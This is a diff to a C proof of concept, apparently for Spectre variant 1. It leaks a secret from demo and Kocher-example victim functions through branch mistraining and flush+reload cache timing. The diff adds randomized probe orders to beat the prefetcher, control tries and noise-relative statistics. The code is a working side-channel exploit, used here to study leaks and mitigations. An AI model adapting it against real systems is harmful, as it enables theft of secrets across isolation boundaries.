@@ -6,44 +6,68 @@
    proof of concept) and reads the secret string through the victim's
    bounds-checked load, never directly.
 
-   One try, for secret byte p (array1[off] is that byte):
-     1. flush every probe line of array2;
-     2. call the victim 30 times: 25 in-bounds calls train the check to
-        "in bounds", 5 calls (every sixth, the last one included) pass the
-        out-of-bounds x; before each call the line the check reads
-        (array1_size, v06's mask, v07's last_x, v09's flag) is flushed, so
-        the check waits for memory while the processor runs ahead on the
-        prediction; x is selected without a branch so that the branch
-        history is the same for every call;
-     3. time one load from each of the 256 probe lines, in a shuffled order
-        (the prefetcher must not guess the next line): a fast line is a
-        value the victim loaded under speculation.
-   Tries repeat until one value leads clearly (at least twice the runner-up
-   plus 5 hits) or --tries run out; a byte without a clear leader gets a
-   second round with fresh scores.  The cache-hit threshold is calibrated
-   at start-up from the timing of known-cached and flushed lines.
+   One try, with malicious index bad_x:
+     1. draw a fresh random order of the 256 probe lines (xorshift, below);
+     2. flush every probe line of array2;
+     3. call the victim 30 times: 25 in-bounds calls train the check to
+        "in bounds", 5 calls (every sixth, the last one included) pass
+        bad_x; before each call the line the check reads (array1_size,
+        v06's mask, v07's last_x, v09's flag) is flushed, so the check
+        waits for memory while the processor runs ahead on the prediction;
+        x is selected without a branch so that the branch history is the
+        same for every call;
+     4. time one load from each of the 256 probe lines in the order of
+        step 1: a fast line is a value the victim loaded under speculation
+        (or noise).
+   The order must be new for every try: a fixed order, even a scrambled
+   one such as (i * 167 + 13) & 255, is learned by the prefetcher of AMD's
+   Zen 5, which then fills about 180 of the 256 lines before they are
+   timed, with no victim call at all.
+
+   Tries come in pairs: an attack try, whose bad_x makes the victim read
+   the secret byte, and a control try, identical except that its "bad" x
+   is an in-bounds index (a public byte of array1 whose value is known and
+   never scored).  The two run in a random order.  Per value,
+     score = hits in attack tries - hits in control tries,
+   so whatever lights a line in both (prefetching, other processes, the
+   timing threshold being too generous) cancels out, and what remains is
+   what the out-of-bounds index alone did.
+
+   Deciding: see clear_leader.  A byte is leaked only when its best value
+   beats the runner-up and the median of all scored values by a margin
+   measured against the noise of this very run, never by a fixed count of
+   hits alone.  Pairs repeat until one value leads clearly or --tries
+   pairs have run; a byte without a clear leader gets a second round with
+   fresh scores.  The cache-hit threshold is calibrated at start-up from
+   the timing of known-cached and flushed lines.
 
    Adapted per variant: see init_variants and the x_* and call_* helpers.
    Variant 10 leaks through a comparison (array1[x] == k), one bit per
-   guess: every candidate k is tried and one probe line (array2[0]) says
-   whether the guess was right.
+   guess: every candidate k is tried (attack try and control try each) and
+   one probe line (array2[0]) says whether the guess was right.
 
    Output: one line per byte, then
      recovered: "..."
      clear but wrong: W, unclear: U, right by chance expected: C
      hits per try: real byte R, any other value O (T tries)
+     control hits per try: real byte R, any other value O, lines per try L
      leaked N of M bytes
    N counts bytes recovered correctly AND with a clear leader; M the bytes
    attacked.  Values present in array1 (0 to 16) are never scored: the
-   in-bounds training calls, and a hardened victim whose index was masked
-   to 0, load them architecturally.  A clear guess that carried no
-   information is right with probability 1/239 (C sums that over the clear
-   guesses).  R and O are hits per try on the real byte's probe line and
-   on an average other scored line: without a leak both are near zero.
+   in-bounds training calls, the control tries, and a hardened victim
+   whose index was masked to 0, load them architecturally.  A clear guess
+   that carried no information is right with probability 1/239 (C sums
+   that over the clear guesses).  R and O are hits per try on the real
+   byte's probe line and on an average other scored line, in attack tries
+   and in control tries; L is the number of scored lines that looked
+   cached in an average control try (prefetcher and other noise).
 
-   Usage: attack [--variant N] [--bytes N] [--tries N] [--quiet] [--list]
+   Usage: attack [--variant N] [--bytes N] [--tries N] [--seed N]
+                 [--order random|fixed] [--quiet] [--list]
      --variant 0 (default) attacks victim_function of victim.c,
-     1 to 15 the classic examples of kocher.c (link kocher.o or hand.o).  */
+     1 to 15 the classic examples of kocher.c (link kocher.o or hand.o);
+     --order fixed reloads in the old fixed order (to see the prefetcher's
+     effect; the result is then not trustworthy).  */
 
 #define _GNU_SOURCE
 #include <stdint.h>
@@ -73,14 +97,14 @@
 
 #define CALLS_PER_TRY 30
 #define CALLS_PER_ATTACK 6      /* every 6th call is the malicious one */
-#define CLEAR_MIN_HITS 5
 /* Iterations of a volatile loop between the flushes and the call: with
    much less (100), the bounds check was mispredicted in about 1% of the
    tries on the AMD EPYC (Zen 4) VM this was written on; with 300, in
    nearly all of them.  */
 #define FLUSH_DELAY 300
-#define DEFAULT_TRIES 400
-#define DEFAULT_GUESS_PASSES 12
+#define DEFAULT_TRIES 400       /* pairs of tries per byte and round */
+#define DEFAULT_GUESS_PASSES 12 /* v10: passes over the guesses */
+#define MIN_GUESS_PASSES 6      /* v10: passes before the first decision */
 #define ROUNDS 2
 
 /* Arguments other than x, chosen without branches by the call wrappers.  */
@@ -225,6 +249,54 @@ init_variants (void)
   variants[10].probe = PROBE_GUESS;
 }
 
+/* A small, fast PRNG (Marsaglia's xorshift64): shuffles the probe order
+   and picks the training and control indices.  Never libc's rand, which
+   may take a lock and touch memory between the victim call and the
+   reload.  */
+static uint64_t rng_state = 0x9E3779B97F4A7C15ull;
+
+static inline uint64_t
+rng_next (void)
+{
+  uint64_t s = rng_state;
+
+  s ^= s << 13;
+  s ^= s >> 7;
+  s ^= s << 17;
+  rng_state = s;
+  return s;
+}
+
+/* A number in [0, n), n <= 2^32, by multiply and shift.  */
+static inline unsigned int
+rng_below (unsigned int n)
+{
+  return (unsigned int) (((rng_next () >> 32) * (uint64_t) n) >> 32);
+}
+
+static int fixed_order;         /* --order fixed */
+static uint8_t probe_order[256];
+
+/* Step 1 of a try: a fresh Fisher-Yates permutation of the 256 values.  */
+static void
+shuffle_probe_order (void)
+{
+  int i;
+
+  for (i = 0; i < 256; i++)
+    probe_order[i] = fixed_order ? (uint8_t) ((i * 167 + 13) & 255)
+                                 : (uint8_t) i;
+  if (fixed_order)
+    return;
+  for (i = 255; i > 0; i--)
+    {
+      unsigned int j = rng_below ((unsigned int) i + 1);
+      uint8_t t = probe_order[i];
+      probe_order[i] = probe_order[j];
+      probe_order[j] = t;
+    }
+}
+
 static inline unsigned int
 time_load (const volatile uint8_t *p)
 {
@@ -244,6 +316,28 @@ compare_uint (const void *a, const void *b)
   return x < y ? -1 : x > y;
 }
 
+/* Square root by Newton's method (V >= 0): keeps the attack free of
+   libm, which the demo does not link.  */
+static double
+root (double v)
+{
+  double r = v > 1.0 ? v : 1.0;
+  int i;
+
+  if (v <= 0.0)
+    return 0.0;
+  for (i = 0; i < 64; i++)
+    r = 0.5 * (r + v / r);
+  return r;
+}
+
+static int
+compare_int (const void *a, const void *b)
+{
+  int x = *(const int *) a, y = *(const int *) b;
+  return x < y ? -1 : x > y;
+}
+
 /* Threshold between a cached line and a flushed one, from this machine's
    timings: halfway between the 90th percentile of hits and the 10th
    percentile of misses.  Returns 0 when the two do not separate.  */
@@ -258,7 +352,7 @@ calibrate (int quiet)
 
   for (i = 0; i < SAMPLES; i++)
     {
-      line = &array2[((i * 167 + 13) & 255) * ARRAY2_STRIDE];
+      line = &array2[rng_below (256) * ARRAY2_STRIDE];
       (void) *line;
       _mm_mfence ();
       hit[i] = time_load (line);
@@ -282,16 +376,13 @@ calibrate (int quiet)
   return 1;
 }
 
-/* The in-bounds x of the next try, in a scrambled order: consecutive
-   values would load array2 with a constant stride from try to try, and the
-   stride prefetcher would then fill the lines of the values that follow.  */
+/* An in-bounds x, random: consecutive values would load array2 with a
+   constant stride from try to try, and the stride prefetcher would then
+   fill the lines of the values that follow.  */
 static size_t
-next_train_x (void)
+random_in_bounds_x (void)
 {
-  static uint32_t state = 12345;
-
-  state = state * 1103515245u + 12345u;
-  return (state >> 16) % array1_size;
+  return rng_below (array1_size);
 }
 
 static void
@@ -303,8 +394,8 @@ flush_probe_lines (void)
     _mm_clflush (&array2[i * ARRAY2_STRIDE]);
 }
 
-/* Step 2 of a try: 30 calls, every 6th one (the last one included)
-   malicious.  */
+/* Step 3 of a try: 30 calls, every 6th one (the last one included) with
+   bad_x.  */
 static void
 train_and_attack (const struct variant *v, size_t train_x, size_t bad_x)
 {
@@ -330,28 +421,94 @@ train_and_attack (const struct variant *v, size_t train_x, size_t bad_x)
     }
 }
 
-struct byte_result
+/* One try of the value probe: adds 1 to HITS[v] for every probe line v
+   that looked cached.  */
+static void
+value_try (const struct variant *v, size_t bad_x, int *hits)
 {
-  int value;                    /* best value, -1 when nothing hit */
-  int score, runner_up;
-  int tries;
-};
+  int i;
 
-static int
-clear_leader (int best, int second)
-{
-  return best >= 2 * second + CLEAR_MIN_HITS;
+  shuffle_probe_order ();
+  flush_probe_lines ();
+  train_and_attack (v, random_in_bounds_x (), bad_x);
+  for (i = 0; i < 256; i++)
+    {
+      int value = probe_order[i];
+      if (time_load (&array2[value * ARRAY2_STRIDE]) <= hit_threshold)
+        hits[value]++;
+    }
 }
 
-static void
-best_two (const int *score, struct byte_result *r)
+struct scores
 {
-  int i, best = -1, second = -1;
+  int attack[256];              /* hits in attack tries, per value */
+  int control[256];             /* hits in control tries, per value */
+  int pairs;
+};
+
+struct byte_result
+{
+  int value;                    /* best value, -1 when none is scored */
+  int score, runner_up, median; /* attack - control hits */
+  double noise;                 /* spread of the scores, see clear_leader */
+  int clear;
+  int pairs;
+};
+
+/* The decision, relative to this run's own noise.
+
+   Scores are attack hits minus control hits over the scored values (239
+   of them; values present in array1 are skipped).  Without a leak every
+   score is the difference of two counts of the same noise, centred on
+   the median.  NOISE, the spread of that bulk, is the largest of
+     - the standard deviation of the difference of two Poisson counts,
+       sqrt of the mean over the scored values of attack + control hits
+       (for hits as rare as here, the exact figure; for frequent hits,
+       binomial rather than Poisson, an overestimate);
+     - 1.4826 times the median absolute deviation of the scores from
+       their median (the standard deviation for normal noise; catches
+       noise wider than Poisson, and one leaked value cannot move it; on
+       its own it was too small: scores are integers, and with a spread of
+       about 2 hits the MAD rounds down to 1, which let 1 in 150 byte
+       rounds of simulated pure noise pass the test below);
+     - 1 hit.
+
+   A byte counts as leaked only when the best value
+     - beats the runner-up by LEAD_SIGMAS (3) noise units and at least
+       MIN_LEAD (5) hits: the best of 239 noise values is rarely more than
+       one noise unit above the second best, so a lead of 3 says the best
+       value is not just the luckiest of the noise; and
+     - beats the median by MEDIAN_SIGMAS (6) noise units and at least
+       MIN_LEAD hits: the best of 239 noise values lies about 2.8 units
+       above the median, so 6 units cannot be the tail of the noise.
+   Both margins scale with the noise: on a busy machine (other processes
+   evicting and filling lines, a prefetcher guessing) the attack simply
+   needs more pairs; a fixed hit count would either accept noise there or
+   demand too much on a quiet machine.  The floors of MIN_LEAD hits keep a
+   handful of lucky hits from deciding anything when the noise is near
+   zero.  Simulated pure noise (hit rates 0.002 to 0.69 per line and try,
+   the test applied every 4 pairs as below, 1,400 byte rounds): no byte
+   passed.  */
+#define LEAD_SIGMAS 3.0
+#define MEDIAN_SIGMAS 6.0
+#define MIN_LEAD 5
+#define MIN_PAIRS 8             /* pairs before the first decision */
+
+static void
+clear_leader (const struct scores *s, struct byte_result *r)
+{
+  int score[256], sorted[256], dev[256];
+  int i, n = 0, best = -1, second = -1;
+  long both = 0;
+  double lead_margin, median_margin, poisson;
 
   for (i = 0; i < 256; i++)
     {
+      score[i] = s->attack[i] - s->control[i];
       if (skipped[i])
         continue;
+      sorted[n++] = score[i];
+      both += s->attack[i] + s->control[i];
       if (best < 0 || score[i] > score[best])
         {
           second = best;
@@ -360,72 +517,137 @@ best_two (const int *score, struct byte_result *r)
       else if (second < 0 || score[i] > score[second])
         second = i;
     }
-  r->value = score[best] > 0 ? best : -1;
+  r->pairs = s->pairs;
+  r->value = best;
+  r->clear = 0;
+  if (best < 0 || second < 0)
+    return;
+  qsort (sorted, n, sizeof sorted[0], compare_int);
+  r->median = sorted[n / 2];
+  for (i = 0; i < n; i++)
+    dev[i] = abs (sorted[i] - r->median);
+  qsort (dev, n, sizeof dev[0], compare_int);
+  r->noise = 1.4826 * dev[n / 2];
+  poisson = root ((double) both / n);
+  if (r->noise < poisson)
+    r->noise = poisson;
+  if (r->noise < 1.0)
+    r->noise = 1.0;
   r->score = score[best];
   r->runner_up = score[second];
+  lead_margin = LEAD_SIGMAS * r->noise;
+  if (lead_margin < MIN_LEAD)
+    lead_margin = MIN_LEAD;
+  median_margin = MEDIAN_SIGMAS * r->noise;
+  if (median_margin < MIN_LEAD)
+    median_margin = MIN_LEAD;
+  r->clear = (r->score - r->runner_up >= lead_margin
+              && r->score - r->median >= median_margin);
 }
 
-/* One byte through the value probe: which of the 256 lines got cached.  */
+/* One byte through the value probe: pairs of an attack try and a control
+   try, in random order.  */
 static void
-leak_value (const struct variant *v, size_t bad_x, int max_tries,
-            int *score, struct byte_result *r)
+leak_value (const struct variant *v, size_t bad_x, int max_pairs,
+            struct scores *s, struct byte_result *r)
 {
-  int t, i;
+  int t;
 
-  for (t = 0; t < max_tries; t++)
+  for (t = 0; t < max_pairs; t++)
     {
-      size_t train_x = next_train_x ();
+      size_t ctrl_x = random_in_bounds_x ();
 
-      flush_probe_lines ();
-      train_and_attack (v, train_x, bad_x);
-      for (i = 0; i < 256; i++)
+      if (rng_next () & 1)
         {
-          int value = (i * 167 + 13) & 255;
-          if (time_load (&array2[value * ARRAY2_STRIDE]) <= hit_threshold
-              && !skipped[value])
-            score[value]++;
+          value_try (v, bad_x, s->attack);
+          value_try (v, ctrl_x, s->control);
         }
-      best_two (score, r);
-      if (clear_leader (r->score, r->runner_up))
-        break;
+      else
+        {
+          value_try (v, ctrl_x, s->control);
+          value_try (v, bad_x, s->attack);
+        }
+      s->pairs = t + 1;
+      if (s->pairs >= MIN_PAIRS && s->pairs % 4 == 0)
+        {
+          clear_leader (s, r);
+          if (r->clear)
+            return;
+        }
     }
-  r->tries = t < max_tries ? t + 1 : max_tries;
+  clear_leader (s, r);
 }
 
-/* One byte through v10's comparison: each candidate k in turn, one probe
-   line (array2[0]) saying whether array1[x] == k.  */
+/* One try of v10's comparison with guess K: 1 when array2[0] looked
+   cached.  Training calls compare unequal: the inner branch learns "not
+   taken", so array2[0] is loaded only when the malicious call's
+   comparison, resolved under the outer misprediction, says equal
+   (trained "taken", the load would be issued for every guess before the
+   comparison is known).  */
+static int
+guess_try (const struct variant *v, size_t bad_x, int k)
+{
+  size_t train_x = random_in_bounds_x ();
+
+  k_train = (uint8_t) ~array1[train_x];
+  k_guess = (uint8_t) k;
+  _mm_clflush (&array2[0]);
+  train_and_attack (v, train_x, bad_x);
+  return time_load (&array2[0]) <= hit_threshold;
+}
+
+/* One byte through v10's comparison: each pass tries every candidate k
+   in a random order, each attack try paired with a control try (an
+   in-bounds x, whose public byte, a value never scored, differs from every
+   k tried).  The control tries take the candidates in a second, independent
+   random order: on the Zen 5 this was measured on, a control try run just
+   after the attack try on the right guess hit array2[0] in about half the
+   pairs (in some code layouts only; the branch predictor seems to keep
+   something of the speculative "equal"), which would subtract the leak
+   from its own score; with independent orders that spill lands on a
+   random guess and counts as noise.  */
 static void
 leak_guess (const struct variant *v, size_t bad_x, int passes,
-            int *score, struct byte_result *r)
+            struct scores *s, struct byte_result *r)
 {
-  int pass, i;
+  uint8_t attack_order[256];
+  int pass, i, j;
 
   for (pass = 0; pass < passes; pass++)
     {
-      for (i = 0; i < 256; i++)
+      shuffle_probe_order ();
+      memcpy (attack_order, probe_order, sizeof attack_order);
+      shuffle_probe_order ();
+      for (i = 0, j = 0; i < 256; i++)
         {
-          int guess = (i * 167 + 13) & 255;
-          size_t train_x = next_train_x ();
+          int guess = attack_order[i], ctrl_guess;
+          size_t ctrl_x = random_in_bounds_x ();
 
           if (skipped[guess])
             continue;
-          /* Training calls compare unequal: the inner branch learns "not
-             taken", so array2[0] is loaded only when the malicious call's
-             comparison, resolved under the outer misprediction, says
-             equal (trained "taken", the load would be issued for every
-             guess before the comparison is known).  */
-          k_train = (uint8_t) ~array1[train_x];
-          k_guess = (uint8_t) guess;
-          _mm_clflush (&array2[0]);
-          train_and_attack (v, train_x, bad_x);
-          if (time_load (&array2[0]) <= hit_threshold)
-            score[guess]++;
+          while (skipped[probe_order[j]])
+            j++;
+          ctrl_guess = probe_order[j++];
+          if (rng_next () & 1)
+            {
+              s->attack[guess] += guess_try (v, bad_x, guess);
+              s->control[ctrl_guess] += guess_try (v, ctrl_x, ctrl_guess);
+            }
+          else
+            {
+              s->control[ctrl_guess] += guess_try (v, ctrl_x, ctrl_guess);
+              s->attack[guess] += guess_try (v, bad_x, guess);
+            }
         }
-      best_two (score, r);
-      if (clear_leader (r->score, r->runner_up))
-        break;
+      s->pairs = pass + 1;
+      if (s->pairs >= MIN_GUESS_PASSES)
+        {
+          clear_leader (s, r);
+          if (r->clear)
+            return;
+        }
     }
-  r->tries = pass < passes ? pass + 1 : passes;
+  clear_leader (s, r);
 }
 
 static int
@@ -438,12 +660,21 @@ static void
 usage (FILE *out)
 {
   fprintf (out,
-           "usage: attack [--variant N] [--bytes N] [--tries N] [--quiet]\n"
+           "usage: attack [--variant N] [--bytes N] [--tries N] [--seed N]\n"
+           "              [--order random|fixed] [--quiet] [--list]\n"
            "  --variant 0   victim_function of victim.c (default)\n"
            "  --variant 1..15  the classic examples of kocher.c\n"
            "  --bytes N     leak the first N bytes of the secret\n"
-           "  --tries N     tries per byte and round (default %d; for "
-           "variant 10, passes over all guesses, default %d)\n"
+           "  --tries N     pairs of tries (attack, control) per byte and "
+           "round\n"
+           "                (default %d; for variant 10, passes over all "
+           "guesses,\n"
+           "                default %d)\n"
+           "  --seed N      seed of the random probe order (default: from "
+           "the clock)\n"
+           "  --order fixed reload in a fixed order (shows the prefetcher "
+           "at work;\n"
+           "                results are then not trustworthy)\n"
            "  --list        list the variants\n",
            DEFAULT_TRIES, DEFAULT_GUESS_PASSES);
 }
@@ -458,8 +689,10 @@ main (int argc, char **argv)
   int variant = 0, tries = 0, quiet = 0, i;
   int attempted = 0, leaked = 0, clear_wrong = 0, unclear = 0;
   int seen[256] = { 0 }, scored_values = 0;
-  long tries_total = 0, real_hits = 0;
-  double other_hits = 0, chance = 0;
+  long tries_total = 0, real_hits = 0, real_control = 0;
+  double other_hits = 0, other_control = 0, control_lines = 0, chance = 0;
+  long control_pairs = 0;
+  unsigned long long seed = 0;
   char recovered[256];
 
   for (i = 1; i < argc; i++)
@@ -470,6 +703,12 @@ main (int argc, char **argv)
         nbytes = (size_t) atoi (argv[++i]);
       else if (strcmp (argv[i], "--tries") == 0 && i + 1 < argc)
         tries = atoi (argv[++i]);
+      else if (strcmp (argv[i], "--seed") == 0 && i + 1 < argc)
+        seed = strtoull (argv[++i], NULL, 0);
+      else if (strcmp (argv[i], "--order") == 0 && i + 1 < argc
+               && (strcmp (argv[i + 1], "random") == 0
+                   || strcmp (argv[i + 1], "fixed") == 0))
+        fixed_order = strcmp (argv[++i], "fixed") == 0;
       else if (strcmp (argv[i], "--quiet") == 0)
         quiet = 1;
       else if (strcmp (argv[i], "--list") == 0)
@@ -505,6 +744,9 @@ main (int argc, char **argv)
     nbytes = sizeof recovered - 1;
   if (tries <= 0)
     tries = v->probe == PROBE_GUESS ? DEFAULT_GUESS_PASSES : DEFAULT_TRIES;
+  if (seed == 0)
+    seed = __rdtsc ();
+  rng_state = seed | 1;         /* xorshift's state must not be 0 */
 
   /* Touch array2 so that no page is left copy-on-write or unmapped.  */
   for (i = 0; i < (int) sizeof array2; i++)
@@ -518,8 +760,11 @@ main (int argc, char **argv)
       return 2;
     }
   if (!quiet)
-    printf ("target: %s\nsecret: %zu bytes at array1%+td\n", v->shape,
-            secret_len, (ptrdiff_t) (secret_bytes - array1));
+    printf ("target: %s\nsecret: %zu bytes at array1%+td\n"
+            "probe order: %s (seed %llu)\n", v->shape, secret_len,
+            (ptrdiff_t) (secret_bytes - array1),
+            fixed_order ? "fixed (i * 167 + 13) & 255" : "random per try",
+            seed);
 
   for (p = 0; p < nbytes; p++)
     {
@@ -527,7 +772,6 @@ main (int argc, char **argv)
       size_t bad_x;
       struct byte_result r;
       int round, real = secret_bytes[p];
-      int clear;
 
       if (!v->target_x (off, &bad_x))
         {
@@ -545,50 +789,67 @@ main (int argc, char **argv)
         }
       for (round = 0; round < ROUNDS; round++)
         {
-          int score[256] = { 0 };
+          static struct scores s;
+          long tries_this;
 
+          memset (&s, 0, sizeof s);
           if (v->probe == PROBE_GUESS)
-            leak_guess (v, bad_x, tries, score, &r);
+            leak_guess (v, bad_x, tries, &s, &r);
           else
-            leak_value (v, bad_x, tries, score, &r);
-          if (skipped[real])
-            continue;
-          tries_total += r.tries;
-          real_hits += score[real];
-          for (i = 0; i < 256; i++)
-            if (!skipped[i] && i != real)
-              other_hits += score[i] / (double) (scored_values - 1);
-          if (clear_leader (r.score, r.runner_up))
+            leak_value (v, bad_x, tries, &s, &r);
+          /* For v10 a pass is one try per guess, and each guess has its
+             own line: per guess, the tries are the passes.  */
+          tries_this = s.pairs;
+          if (!skipped[real])
+            {
+              tries_total += tries_this;
+              real_hits += s.attack[real];
+              real_control += s.control[real];
+              for (i = 0; i < 256; i++)
+                if (!skipped[i] && i != real)
+                  {
+                    other_hits += s.attack[i] / (double) (scored_values - 1);
+                    other_control
+                      += s.control[i] / (double) (scored_values - 1);
+                  }
+            }
+          if (v->probe == PROBE_VALUE)
+            control_pairs += s.pairs;
+          if (v->probe == PROBE_VALUE)
+            for (i = 0; i < 256; i++)
+              if (!skipped[i])
+                control_lines += s.control[i];
+          if (r.clear)
             break;
         }
-      clear = clear_leader (r.score, r.runner_up);
-      if (clear)
+      if (r.clear)
         {
           seen[r.value] = 1;
           chance += 1.0 / scored_values;
         }
-      if (clear && r.value == real)
+      if (r.clear && r.value == real)
         leaked++;
-      else if (clear)
+      else if (r.clear)
         clear_wrong++;
       else
         unclear++;
-      recovered[p] = clear ? (char) printable (r.value) : '?';
+      recovered[p] = r.clear ? (char) printable (r.value) : '?';
       if (!quiet)
         {
           if (r.value < 0)
-            printf ("byte %2zu: no hit (%d %s)  real 0x%02x '%c'\n", p,
-                    r.tries, v->probe == PROBE_GUESS ? "passes" : "tries",
+            printf ("byte %2zu: nothing scored  real 0x%02x '%c'\n", p,
                     real, printable (real));
           else
-            printf ("byte %2zu: 0x%02x '%c' score %d, runner-up %d, %s "
-                    "(%d %s, round %d)  real 0x%02x '%c'%s\n", p, r.value,
-                    printable (r.value), r.score, r.runner_up,
-                    clear ? "clear" : "unclear", r.tries,
-                    v->probe == PROBE_GUESS ? "passes" : "tries",
+            printf ("byte %2zu: 0x%02x '%c' score %d, runner-up %d, median "
+                    "%d, noise %.1f, %s (%d %s, round %d)  real 0x%02x "
+                    "'%c'%s\n", p, r.value, printable (r.value), r.score,
+                    r.runner_up, r.median, r.noise,
+                    r.clear ? "clear" : "unclear", r.pairs,
+                    v->probe == PROBE_GUESS ? "passes" : "pairs",
                     round < ROUNDS ? round + 1 : ROUNDS, real,
                     printable (real),
-                    clear ? (r.value == real ? "  LEAKED" : "  wrong") : "");
+                    r.clear ? (r.value == real ? "  LEAKED" : "  wrong")
+                    : "");
         }
       fflush (stdout);
     }
@@ -599,6 +860,11 @@ main (int argc, char **argv)
   printf ("hits per try: real byte %.4f, any other value %.4f (%ld tries)\n",
           tries_total ? real_hits / (double) tries_total : 0.0,
           tries_total ? other_hits / tries_total : 0.0, tries_total);
+  printf ("control hits per try: real byte %.4f, any other value %.4f, "
+          "lines per try %.2f\n",
+          tries_total ? real_control / (double) tries_total : 0.0,
+          tries_total ? other_control / tries_total : 0.0,
+          control_pairs ? control_lines / control_pairs : 0.0);
   printf ("leaked %d of %d bytes\n", leaked, attempted);
   return 0;
 }
